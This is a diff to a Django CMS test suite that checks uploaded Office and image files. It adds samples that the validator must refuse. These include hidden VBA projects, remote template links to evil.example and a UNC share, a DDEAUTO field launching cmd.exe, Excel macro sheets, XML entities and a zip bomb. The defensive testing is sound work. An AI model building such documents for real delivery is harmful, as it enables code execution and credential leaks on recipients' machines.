@@ -1,11 +1,14 @@
 """What is taken in is what its name says, within bounds; everything else is refused in words."""
 
+import io
+
 import pytest
 from django.core.exceptions import ValidationError
 from hypothesis import given
 from hypothesis import strategies as st
+from PIL import Image as Pillow
 
-from cms.files import names, uploads, vault
+from cms.files import names, office, uploads, vault
 from cms.files.models import Document, Image
 from tests.files import samples
 
@@ -14,9 +17,31 @@ GOOD = {
     "计划.doc": samples.ole("WordDocument"),
     "计划.wps": samples.ole("WordDocument"),
     "表.xls": samples.ole("Workbook"),
-    "表.et": samples.ole("Workbook"),
+    "表.et": samples.ole("Workbook", content=samples.sheets(0, 0)),
     "计划.docx": samples.zipped("[Content_Types].xml", "word/document.xml"),
     "表.xlsx": samples.zipped("[Content_Types].xml", "xl/workbook.xml"),
+    "链接.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        "word/_rels/document.xml.rels",
+        **{
+            "word/_rels/document.xml.rels": samples.RELATIONS.format(
+                '<Relationship Id="r1" Target="http://www.example/" TargetMode="External" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
+            )
+        },
+    ),
+    "本机模板.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        "word/_rels/settings.xml.rels",
+        **{
+            "word/_rels/settings.xml.rels": samples.RELATIONS.format(
+                '<Relationship Id="r1" Target="file:///C:\\Users\\zhang\\gongwen.dotx" TargetMode="External" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+            )
+        },
+    ),
     "公文.ofd": samples.zipped("OFD.xml", "Doc_0/Document.xml"),
     "说明.txt": "收费标准：每台200元".encode("gb18030"),
     "名单.csv": "﻿编号,名称\n1,锅炉".encode(),
@@ -27,7 +52,77 @@ BAD = {
     "图.txt": samples.SVG,
     "表.docx": samples.zipped("[Content_Types].xml", "xl/workbook.xml"),
     "包.docx": samples.zipped("anything.exe"),
-    "宏.docx": samples.zipped("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
+    "宏.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        "word/media/image1.png",  # a project of macros under another name
+        content_types=samples.TYPES.format(
+            '<Override PartName="/word/media/image1.png" ContentType="application/vnd.ms-office.vbaProject"/>'
+        ),
+    ),
+    "宏文档.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        content_types=samples.TYPES.format(
+            '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" PartName="/x.xml"/>'
+        ),
+    ),
+    "模板.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        "word/_rels/settings.xml.rels",
+        **{
+            "word/_rels/settings.xml.rels": samples.RELATIONS.format(
+                '<Relationship Id="r1" Target="http://evil.example/t.dotm" TargetMode="External" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+            )
+        },
+    ),
+    "共享.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        "word/_rels/settings.xml.rels",
+        **{
+            "word/_rels/settings.xml.rels": samples.RELATIONS.format(
+                '<Relationship Id="r1" Target="file:///\\\\10.0.0.1\\share\\t.dotm" TargetMode="External" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+            )
+        },
+    ),
+    "外图.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        "word/_rels/document.xml.rels",
+        **{
+            "word/_rels/document.xml.rels": samples.RELATIONS.format(
+                '<Relationship Id="r1" Target="http://evil.example/p.png" TargetMode="External" '
+                'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/image"/>'
+            )
+        },
+    ),
+    "程序.docx": samples.zipped(
+        "[Content_Types].xml",
+        "word/document.xml",
+        **{
+            "word/document.xml": '<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe "/k" </w:instrText></w:p>'
+        },
+    ),
+    "宏表.xlsx": samples.zipped(
+        "[Content_Types].xml",
+        "xl/workbook.xml",
+        "xl/macrosheets/sheet1.xml",
+        content_types=samples.TYPES.format(
+            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
+        ),
+    ),
+    "乱.docx": samples.zipped("[Content_Types].xml", "word/document.xml", content_types="<Types"),
+    "实体.docx": samples.zipped(
+        "[Content_Types].xml", "word/document.xml", content_types='<!DOCTYPE x [<!ENTITY a "b">]><Types/>'
+    ),
+    "宏.doc": samples.ole("WordDocument", storages=("Macros",)),
+    "工程.doc": samples.ole("WordDocument", "_VBA_PROJECT"),
+    "宏表.xls": samples.ole("Workbook", content=samples.sheets(0, 1)),
+    "断.doc": samples.ole("WordDocument")[:700],
     "表.doc": samples.ole("Workbook"),
     "密.docx": samples.ole("EncryptedPackage"),
     "图.svg": samples.SVG,
@@ -88,6 +183,27 @@ def test_other_pictures_are_refused_in_words(db, name, content):
     with pytest.raises((ValidationError, OSError, TypeError, ValueError)):  # Wagtail measures it on construction
         Image(title="x", file=samples.upload(content, name)).save()
     assert not Image.objects.exists()
+
+
+def animation(frames: int) -> bytes:
+    target = io.BytesIO()
+    pictures = [Pillow.new("P", (2, 2), number % 250) for number in range(frames)]
+    pictures[0].save(target, "GIF", save_all=True, append_images=pictures[1:], optimize=False)
+    return target.getvalue()
+
+
+def test_an_animation_has_a_bound(db):
+    uploads.check_image(samples.upload(animation(3), "a.gif"), "a.gif", 100)
+    with pytest.raises(ValidationError) as refused:
+        uploads.check_image(samples.upload(animation(uploads.MOST_FRAMES + 1), "a.gif"), "a.gif", 100)
+    assert refused.value.code == "too_many_frames"
+
+
+def test_what_unpacks_to_more_than_it_may_is_refused(db, monkeypatch):
+    monkeypatch.setattr(office, "MOST_BYTES", 1000)
+    bomb = samples.zipped("[Content_Types].xml", "word/document.xml", **{"word/document.xml": "字" * 100_000})
+    with pytest.raises(ValidationError):
+        uploads.check_document(samples.upload(bomb, "a.docx"), "a.docx", len(bomb))
 
 
 def test_bounds_come_from_the_settings(db, settings):
